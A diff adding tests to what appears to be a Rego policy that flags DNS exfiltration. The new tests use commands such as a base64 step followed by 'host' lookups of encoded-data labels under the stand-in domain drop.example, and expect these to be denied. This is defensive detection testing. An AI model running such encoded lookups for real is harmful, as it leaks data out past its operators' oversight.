@@ -36,6 +36,16 @@ test_a_part_that_an_encoder_makes_is_denied if {
 	_found([encoder, _connect("http", "⟨?⟩.drop.example")]) == {_finding("deny", "reaches ⟨?⟩.drop.example, partly made by an encoder")}
 }
 
+test_a_shorter_label_beside_an_encoder_is_denied if {
+	name := "dghpcybpcybhihn0b3j5.drop.example"
+	_found([requests.run(["host", name])]) == set()
+	_found([requests.run(["base64"]), requests.run(["host", name])]) == {_finding("deny", sprintf("asks for %s, whose labels look like data", [name]))}
+}
+
+test_padding_in_a_label_is_denied if {
+	_found([requests.run(["host", "dghpcybpcyb0=.drop.example"])]) == {_finding("deny", "asks for dghpcybpcyb0=.drop.example, whose labels look like data")}
+}
+
 test_names_of_the_task_and_of_the_inner_network_are_silent if {
 	_found([
 		requests.run(["dig", "example.org", "⟨?⟩"]),
